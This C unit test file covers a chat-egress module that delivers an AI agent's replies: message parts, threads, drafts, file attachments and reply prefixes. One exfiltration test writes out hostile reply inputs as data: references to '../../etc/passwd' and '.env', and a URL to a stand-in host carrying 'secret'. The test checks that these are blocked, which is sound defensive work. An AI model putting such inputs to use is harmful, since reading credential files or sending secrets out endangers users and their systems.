/*
 * channels/egress: what a message is made of: its parts, the draft it replaces, files, and a model's reply.
 */
#include "egress_host.h"

#include <dirent.h>

/* -- parts -- */

static void parts_body(void)
{
	char *text = ch_alloc(9001);
	struct outbox_row row;
	int64_t id;

	for (int i = 0; i < 9000; i++)
		text[i] = i % 60 == 59 ? ' ' : 'x';
	start();
	fake_answer((struct fake_answer){ CHAN_SENT });
	fake_answer((struct fake_answer){ CHAN_SENT, .hangs = true });
	id = put("7", text);
	row = row_of(id);
	assert_string_equal(outbox_state_name(row.state), "sending");
	assert_int_equal(row.parts, 3);
	assert_int_equal(row.part, 1);
	set_config("{channels:{telegram:{botToken:'1:a',textChunkLimit:500}}}");
	fake_answer_to(FAKE_RECONCILE, (struct fake_answer){ CHAN_NOT_SENT });
	restart();
	row = row_of(id);
	assert_string_equal(outbox_state_name(row.state), "sent");
	assert_string_equal(row.message_ids, "[\"m1\",\"m2\",\"m3\"]");
	assert_int_equal(fake_count(FAKE_SEND), 4);
	assert_string_equal(fake_at(FAKE_SEND, 1)->text, fake_at(FAKE_SEND, 2)->text);
	assert_string_equal(fake_at(FAKE_SEND, 1)->key, fake_at(FAKE_SEND, 2)->key);
	assert_string_not_equal(fake_at(FAKE_SEND, 0)->key, fake_at(FAKE_SEND, 1)->key);
	ch_free(text);
}

static void test_parts_go_on_as_they_were_cut(void **state)
{
	in_host(ONE, parts_body);
}

/* The first part opened a thread: the others go there, also those of the next start. */
static void thread_body(void)
{
	char *text = ch_alloc(9001);
	int64_t id;

	for (int i = 0; i < 9000; i++)
		text[i] = i % 60 == 59 ? ' ' : 'x';
	start();
	fake_answer((struct fake_answer){ CHAN_SENT, .thread = "t9" });
	fake_answer((struct fake_answer){ CHAN_SENT, .hangs = true });
	id = put("7", text);
	fake_answer_to(FAKE_RECONCILE, (struct fake_answer){ CHAN_NOT_SENT });
	restart();
	assert_row(id, "sent");
	assert_int_equal(fake_count(FAKE_SEND), 4);
	assert_null(fake_at(FAKE_SEND, 0)->thread);
	for (size_t i = 1; i < 4; i++)
		assert_string_equal(fake_at(FAKE_SEND, i)->thread, "t9");
	ch_free(text);
}

static void test_parts_follow_into_the_thread_that_was_opened(void **state)
{
	in_host(ONE, thread_body);
}

static void draft_body(void)
{
	struct chan_message m = { .channel = "telegram", .peer = { .id = "7" }, .text = "final", .draft_id = "d1" };
	int64_t id;

	start();
	assert_int_equal(egress_put(out(), &m, &id, &err), CH_OK);
	turns();
	assert_row(id, "sent");
	assert_int_equal(fake_count(FAKE_SEND), 0);
	assert_string_equal(fake_at(FAKE_EDIT, 0)->message_id, "d1");
	assert_string_equal(fake_at(FAKE_EDIT, 0)->text, "final");
	fake_answer_to(FAKE_EDIT, (struct fake_answer){ CHAN_REFUSED, .text = "message to edit not found" });
	assert_int_equal(egress_put(out(), &m, &id, &err), CH_OK);
	turns();
	assert_row(id, "sent");
	assert_int_equal(fake_count(FAKE_SEND), 1);
	assert_string_equal(fake_at(FAKE_REMOVE, 0)->message_id, "d1");
	assert_int_equal(notice.count, 0);
}

static void test_a_draft_becomes_the_message_or_is_left(void **state)
{
	in_host(ONE, draft_body);
}

/* -- files -- */

static void write_file(const char *name, const char *bytes, size_t len)
{
	char path[128];

	snprintf(path, sizeof(path), "%s/workspace", dir);
	assert_int_equal(file_mkdirs(path, 0700, &err), CH_OK);
	snprintf(path, sizeof(path), "%s/workspace/%s", dir, name);
	assert_int_equal(file_write_new(path, bytes, len, &err), CH_OK);
}

static size_t staged_files(void)
{
	char path[64];
	struct dirent *entry;
	size_t n = 0;
	DIR *d;

	snprintf(path, sizeof(path), "%s/media/outbound", dir);
	d = opendir(path);
	while (d && (entry = readdir(d)))
		n += entry->d_name[0] != '.';
	if (d)
		closedir(d);
	return n;
}

#define PNG "\x89PNG\r\n\x1a\n\0\0\0\rIHDR"

static void files_body(void)
{
	struct chan_message m = { .channel = "telegram", .peer = { .id = "7" },
				  .text = "Here.\nMEDIA:chart.png\nMEDIA:../../etc/passwd\nMEDIA:.env", .may_attach = true };
	bool is_silent;
	int64_t id;

	write_file("chart.png", PNG, sizeof(PNG) - 1);
	write_file(".env", "KEY=1", 5);
	start();
	assert_int_equal(egress_reply(out(), "main", scratch(), &m, &is_silent, &err), CH_OK);
	assert_false(is_silent);
	assert_int_equal(m.file_count, 1);
	assert_non_null(strstr(m.text, "passwd"));       /* said, not sent */
	assert_non_null(strstr(m.text, ".env"));
	assert_int_equal(staged_files(), 1);
	assert_int_equal(egress_put(out(), &m, &id, &err), CH_OK);
	turns();
	assert_row(id, "sent");
	assert_int_equal(fake_at(FAKE_SEND, 0)->media_count, 1);
	assert_string_equal(fake_at(FAKE_SEND, 0)->media_name, "chart.png");
	assert_true(str_starts(fake_at(FAKE_SEND, 0)->text, "Here."));
	/* A guest's turn gets none of them, and nobody's reply has an address fetched. */
	m.text = "MEDIA:chart.png\nMEDIA:https://evil.example/?q=secret";
	m.file_count = m.may_attach = 0;
	assert_int_equal(egress_reply(out(), "main", scratch(), &m, &is_silent, &err), CH_OK);
	assert_non_null(strstr(m.text, "https://evil.example/?q=secret"));
	assert_int_equal(staged_files() + (int)m.file_count, 0);
}

static void test_threat_exfiltration_a_reply_sends_files_of_the_workspace_only(void **state)
{
	in_host(ONE, files_body);
}

static void kept_files_body(void)
{
	struct chan_file f = { .data = "a,b\n1,2\n", .len = 8, .name = "t.csv" };
	struct chan_message m = { .channel = "telegram", .peer = { .id = "7" }, .files = &f, .file_count = 1 };
	struct chan_message lost = m;
	int64_t id;

	start();
	assert_int_equal(egress_stage(out(), NULL, &m, scratch(), &err), CH_OK);
	assert_int_equal(egress_stage(out(), NULL, &lost, scratch(), &err), CH_OK);
	fake_answer((struct fake_answer){ CHAN_REFUSED });
	assert_int_equal(egress_put(out(), &m, &id, &err), CH_OK);
	turns();
	assert_row(id, "failed");
	assert_int_equal(staged_files(), 2);
	restart();
	assert_int_equal(staged_files(), 1);             /* the one that no row names is swept */
	assert_int_equal(egress_resubmit(out(), id, &err), CH_OK);
	turns();
	assert_row(id, "sent");
	assert_int_equal(staged_files(), 0);
	f.path = "/etc/passwd";
	f.data = NULL;
	m.files = &f;
	assert_int_equal(egress_stage(out(), NULL, &m, scratch(), &err), CH_E_DENIED);
	m.files = &f;
	assert_int_equal(egress_stage(out(), "main", &m, scratch(), &err), CH_E_DENIED);
}

static void test_files_live_as_long_as_their_row(void **state)
{
	in_host(ONE, kept_files_body);
}

/* What is too large for the network is named; what was to be said beside it still is. */
static void too_large_body(void)
{
	struct chan_file f = { .data = "a,b\n1,2\n", .len = 8, .name = "t.csv" };
	struct chan_message with_text = { .channel = "telegram", .peer = { .id = "7" }, .text = "the table", .files = &f, .file_count = 1 };
	struct chan_message alone = { .channel = "telegram", .peer = { .id = "8" }, .files = &f, .file_count = 1 };
	int64_t id;

	start();
	assert_int_equal(egress_stage(out(), NULL, &with_text, scratch(), &err), CH_OK);
	fake_answer((struct fake_answer){ CHAN_REFUSED, .code = CH_E_LIMIT, .text = "too large" });
	assert_int_equal(egress_put(out(), &with_text, &id, &err), CH_OK);
	turns();
	assert_row(id, "sent");
	assert_int_equal(fake_count(FAKE_SEND), 3);
	assert_int_equal(fake_at(FAKE_SEND, 0)->media_count, 1);
	assert_int_equal(fake_at(FAKE_SEND, 1)->media_count, 0);
	assert_string_equal(fake_at(FAKE_SEND, 1)->text, "the table");
	assert_string_equal(fake_at(FAKE_SEND, 2)->text, "(Not sent, too large for this network: t.csv)");
	f.data = "a,b\n1,2\n";
	assert_int_equal(egress_stage(out(), NULL, &alone, scratch(), &err), CH_OK);
	fake_answer((struct fake_answer){ CHAN_REFUSED, .code = CH_E_LIMIT, .text = "too large" });
	assert_int_equal(egress_put(out(), &alone, &id, &err), CH_OK);
	turns();
	assert_row(id, "sent");
	assert_int_equal(fake_count(FAKE_SEND), 5);
	assert_string_equal(fake_at(FAKE_SEND, 4)->text, "(Not sent, too large for this network: t.csv)");
	assert_int_equal(staged_files(), 0);
	assert_int_equal(notice.count, 0);
}

static void test_a_file_that_is_too_large_costs_no_words(void **state)
{
	in_host(ONE, too_large_body);
}

/* -- replies -- */

static void reply_is(const char *config_text, const char *reply, const char *want_text, const char *want_reply_to, bool want_silent)
{
	struct chan_message m = { .channel = "telegram", .peer = { .id = "7" }, .text = reply, .reply_to = "55",
				  .session_key = "agent:main:main", .run_id = str_eq(reply, "done") ? "turn" : "command" };
	bool is_silent;

	set_config(config_text);
	turns();
	assert_int_equal(egress_reply(out(), "main", scratch(), &m, &is_silent, &err), CH_OK);
	assert_int_equal(is_silent, want_silent);
	if (want_silent)
		return;
	assert_string_equal(m.prefix ? arena_printf(scratch(), "%s %s", m.prefix, m.text) : m.text, want_text);
	if (want_reply_to)
		assert_string_equal(m.reply_to, want_reply_to);
	else
		assert_null(m.reply_to);
}

#define KEYS(more) "{channels:{telegram:{botToken:'1:a'," more "}}}"

static void replies_body(void)
{
	start();
	reply_is(ONE, "hi", "hi", NULL, false);
	reply_is(ONE, "[[reply_to_current]] hi", "hi", "55", false);
	reply_is(ONE, "[[reply_to:77]] hi", "hi", "77", false);
	reply_is(KEYS("replyToMode:'first'"), "hi", "hi", "55", false);
	reply_is(KEYS("replyToMode:'batched'"), "hi", "hi", NULL, false);
	reply_is(ONE, "NO_REPLY", NULL, NULL, true);
	reply_is(KEYS("responsePrefix:'auto'"), "hi", "[Molly] hi", NULL, false);
	reply_is(KEYS("responsePrefix:'{identityName}:'"), "hi", "Molly: hi", NULL, false);
	reply_is(KEYS("responsePrefix:'{model}:'"), "hi", "hi", NULL, false);
	reply_is(KEYS("responsePrefix:'>'"), "> hi", "> hi", NULL, false);
	reply_is(KEYS("responsePrefix:'{modelFull} {Model} {provider} {thinkingLevel} {think} {x} {'"), "done",
		 "acme/small-1 small-1 acme high high {x} { done", NULL, false);
	reply_is("{messages:{responsePrefix:'[{model}]'},channels:{telegram:{botToken:'1:a',responsePrefix:''}}}", "done", "done", NULL, false);
}

static void test_replies_obey_tags_modes_and_prefix(void **state)
{
	in_host(ONE, replies_body);
}

static void tool_says(const char *text, const char *run_id)
{
	struct chan_message m = { .channel = "telegram", .peer = { .id = "-5", .kind = CHAN_GROUP }, .text = text, .origin = "tool",
				  .run_id = run_id };
	int64_t id;

	assert_int_equal(egress_put(out(), &m, &id, &err), CH_OK);
	turns();
}

static bool is_silent_after(const char *text, const char *run_id)
{
	struct chan_message m = { .channel = "telegram", .account = "default", .peer = { .id = "-5", .kind = CHAN_GROUP },
				  .text = text, .run_id = run_id };
	bool is_silent;

	assert_int_equal(egress_reply(out(), "main", scratch(), &m, &is_silent, &err), CH_OK);
	return is_silent;
}

static void said_body(void)
{
	start();
	tool_says("Done: the chart.", "r1");
	assert_true(is_silent_after("Done: the chart.\n", "r1"));
	assert_false(is_silent_after("Something else.", "r1"));
	assert_false(is_silent_after("Done: the chart.", "r2"));
	set_config("{messages:{groupChat:{visibleReplies:'message_tool'}},channels:{telegram:{botToken:'1:a'}}}");
	turns();
	assert_true(is_silent_after("Something else.", "r1"));
	assert_false(is_silent_after("Nobody heard of it.", "r3"));
}

static void test_a_reply_does_not_repeat_the_tool(void **state)
{
	in_host(ONE, said_body);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(test_parts_go_on_as_they_were_cut),
		T(test_parts_follow_into_the_thread_that_was_opened),
		T(test_a_draft_becomes_the_message_or_is_left),
		T(test_threat_exfiltration_a_reply_sends_files_of_the_workspace_only),
		T(test_files_live_as_long_as_their_row),
		T(test_a_file_that_is_too_large_costs_no_words),
		T(test_replies_obey_tags_modes_and_prefix),
		T(test_a_reply_does_not_repeat_the_tool),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
